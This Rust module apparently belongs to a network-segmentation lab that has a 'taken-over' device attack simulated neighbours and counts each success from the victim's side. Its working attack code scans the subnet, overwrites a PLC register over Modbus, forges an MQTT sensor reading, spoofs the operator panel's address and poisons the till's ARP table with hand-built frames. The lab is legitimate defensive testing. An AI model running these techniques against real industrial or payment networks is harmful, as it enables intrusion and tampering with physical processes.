//! A device turns hostile. Each step counts as a success only when the victim felt it: the PLC's
//! register changed, the file server logged the download, the operator panel showed the forgery.

use std::fmt;
use std::fs;
use std::io::{self, Write};
use std::net::Ipv4Addr;
use std::time::Duration;

use model::Mac;

use crate::estate::{GATEWAY, GATEWAY_MAC, SUBNET};
use crate::probe::{self, Probe, Verdict, Witness};
use crate::{Device, Lab, LabError, client, sys, traffic, wait};

/// What an attack achieved.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Report {
    /// The device that was taken over.
    pub device: String,
    /// Addresses of the subnet that answered its scan, of 253 others.
    pub found: Vec<Ipv4Addr>,
    /// Every port it tried on every machine.
    pub probes: Vec<Verdict>,
    /// What it did to them.
    pub steps: Vec<Step>,
}

/// One thing it tried to do.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Step {
    /// What: `overwrite a register of the PLC`.
    pub what: &'static str,
    /// To whom.
    pub victim: &'static str,
    /// The victim felt it.
    pub success: bool,
}

impl Report {
    /// Ports that its packets arrived at.
    pub fn reached(&self) -> usize {
        self.probes.iter().filter(|verdict| verdict.outcome.passed()).count()
    }

    /// Ports where something served it.
    pub fn served(&self) -> usize {
        self.probes.iter().filter(|v| v.outcome == probe::Outcome::Reached).count()
    }

    /// Machines that any of its packets arrived at.
    pub fn machines(&self) -> usize {
        let passed = self.probes.iter().filter(|verdict| verdict.outcome.passed());
        passed.map(|verdict| &verdict.probe.to).collect::<std::collections::BTreeSet<_>>().len()
    }

    /// Steps that succeeded.
    pub fn successes(&self) -> usize {
        self.steps.iter().filter(|step| step.success).count()
    }
}

impl fmt::Display for Step {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.what, if self.success { "succeeded" } else { "failed" })
    }
}

/// Takes over `device` (`camera`) and does everything it can think of, in about three seconds.
pub fn take_over(lab: &Lab, device: &str) -> Result<Report, LabError> {
    let attacker = lab.device(device)?;
    let found = scan(attacker)?;
    let mut probes: Vec<_> =
        probe::everything(lab).into_iter().filter(|probe| probe.from == attacker.name).collect();
    let others = lab.devices().iter().filter(|other| other.name != attacker.name);
    probes.extend(others.map(|other| Probe::tcp(attacker.name, other.name, 22)));
    let probes = probe::matrix(lab, &probes)?;
    let steps = [overwrite, steal, charge, look_into_till, forge, pretend, poison];
    let steps = steps.iter().map(|step| step(lab, attacker)).collect::<Result<_, _>>()?;
    Ok(Report { device: device.to_owned(), found, probes, steps })
}

/// Tries port 80 of every address of the subnet; who answers, is found.
fn scan(attacker: &Device) -> Result<Vec<Ipv4Addr>, LabError> {
    let [a, b, c, _] = SUBNET.0.octets();
    let addresses =
        (1..=254).map(|host| Ipv4Addr::new(a, b, c, host)).filter(|ip| *ip != attacker.ip);
    let scan = || probe::answering(addresses.clone(), 80);
    let found = attacker.netns.enter(scan).map_err(|error| LabError::failed("scan", error))?;
    Ok(found)
}

type Done = Result<Step, LabError>;

fn step(what: &'static str, victim: &'static str, success: bool) -> Done {
    Ok(Step { what, victim, success })
}

/// A task of the attacker; that it fails is what the victim's view tells.
fn try_it<T: Send>(attacker: &Device, work: impl FnOnce() -> io::Result<T> + Send) -> bool {
    attacker.netns.enter(work).is_ok_and(|result| result.is_ok())
}

fn overwrite(lab: &Lab, attacker: &Device) -> Done {
    let plc = lab.device("plc")?.ip;
    let before = lab.registers.get(5);
    let value = before.map_or(0xdead, |value| value.wrapping_add(0x1111)).to_be_bytes();
    let request = [6, 0, 5, value[0], value[1]];
    try_it(attacker, || client::modbus(plc, &[&request]));
    step("overwrite a register of the PLC", "plc", lab.registers.get(5) != before)
}

fn steal(lab: &Lab, attacker: &Device) -> Done {
    let request = "GET /projects/packing-line.stu";
    let success = fetched(lab, attacker, "files", 8080, request)?;
    step("download the PLC project from the file server", "files", success)
}

fn charge(lab: &Lab, attacker: &Device) -> Done {
    let success = fetched(lab, attacker, "payments", 8080, "POST /v1/authorise")?;
    step("call the payment service", "payments", success)
}

fn look_into_till(lab: &Lab, attacker: &Device) -> Done {
    step("read the till's status", "till", fetched(lab, attacker, "till", 5015, "GET /status")?)
}

/// The victim's own log has a request from the attacker that was not there before.
fn fetched(
    lab: &Lab,
    attacker: &Device,
    victim: &'static str,
    port: u16,
    request: &str,
) -> Result<bool, LabError> {
    let from_us = || {
        let entries = lab.log.entries();
        let ours = |client: std::net::IpAddr| client == std::net::IpAddr::V4(attacker.ip);
        entries
            .iter()
            .filter(|e| e.server == victim && ours(e.client.ip()) && e.what == request)
            .count()
    };
    let (ip, before) = (lab.device(victim)?.ip, from_us());
    try_it(attacker, || client::http(ip, port, request, victim, "curl/7.88.1", "", ""));
    Ok(from_us() > before)
}

/// Publishes under the name of the cold-room sensor; the operator panel is the victim.
fn forge(lab: &Lab, attacker: &Device) -> Done {
    let payload = "{\"t\":-18.0,\"note\":\"forged\"}";
    let shown = || lab.said(traffic::SUBSCRIBER).matches("forged").count();
    let before = shown();
    let (broker, topic) = (lab.device("broker")?.ip, "warehouse/coldroom/1/temperature");
    try_it(attacker, || traffic::publish_to(broker, "coldroom-1", topic, payload));
    let deadline = wait::now() + Duration::from_millis(700);
    let success = wait::until(deadline, || shown() > before)?;
    step("publish a reading as the cold-room sensor", "hmi", success)
}

/// Sends to the PLC with the operator panel's address as source.
fn pretend(lab: &Lab, attacker: &Device) -> Done {
    let (plc, hmi) = (lab.device("plc")?, lab.device("hmi")?.ip);
    let witness = Witness::start(plc)?;
    let mut port = None;
    let _ = attacker.netns.enter(|| {
        let socket = sys::udp_as(hmi)?;
        port = Some(socket.local_addr()?.port());
        socket.send_to(b"spoofed", (plc.ip, 502)).map(|_| ())
    });
    wait::pass(Duration::from_millis(200))?;
    let seen = witness.stop();
    let success = port.is_some_and(|port| seen.contains(&(17, hmi, port, 502)));
    step("reach the PLC with the operator panel's address", "plc", success)
}

/// Tells the till that the gateway's address is at the attacker's interface.
fn poison(lab: &Lab, attacker: &Device) -> Done {
    let till = lab.device("till")?;
    // The till must know the gateway, or it ignores unasked answers.
    let _ = till.netns.enter(|| client::resolve("plc.warehouse.example"));
    let believes = |mac: Mac| {
        let table = till.netns.enter(|| fs::read_to_string("/proc/thread-self/net/arp"));
        let table = table.and_then(|text| text).unwrap_or_default();
        let row = |line: &str| {
            let mut words = line.split_whitespace();
            words.next() == Some(&GATEWAY.to_string()) && words.nth(2) == Some(&mac.to_string())
        };
        table.lines().any(row)
    };
    let tell = |mac: Mac| {
        let frame = arp_answer(till.mac, till.ip, mac, GATEWAY);
        let _ = attacker.netns.enter(|| {
            let mut socket = fs::File::from(sys::packet_socket("eth0", false)?);
            socket.write_all(&frame)
        });
    };
    // A fresh entry is locked for a second.
    let deadline = wait::now() + Duration::from_millis(1_500);
    let success = wait::until(deadline, || {
        tell(attacker.mac);
        believes(attacker.mac)
    })?;
    if success {
        // The demo goes on with a working till: undo it.
        let deadline = wait::now() + Duration::from_millis(1_500);
        wait::until(deadline, || {
            tell(GATEWAY_MAC);
            believes(GATEWAY_MAC)
        })?;
    }
    step("take the gateway's place for the till (ARP)", "till", success)
}

/// An unasked ARP reply (RFC 826): `ip` is at `mac`.
fn arp_answer(to_mac: Mac, to_ip: Ipv4Addr, mac: Mac, ip: Ipv4Addr) -> Vec<u8> {
    let mut out = to_mac.0.to_vec();
    out.extend(mac.0);
    out.extend([8, 6, 0, 1, 8, 0, 6, 4, 0, 2]);
    out.extend(mac.0);
    out.extend(ip.octets());
    out.extend(to_mac.0);
    out.extend(to_ip.octets());
    out
}
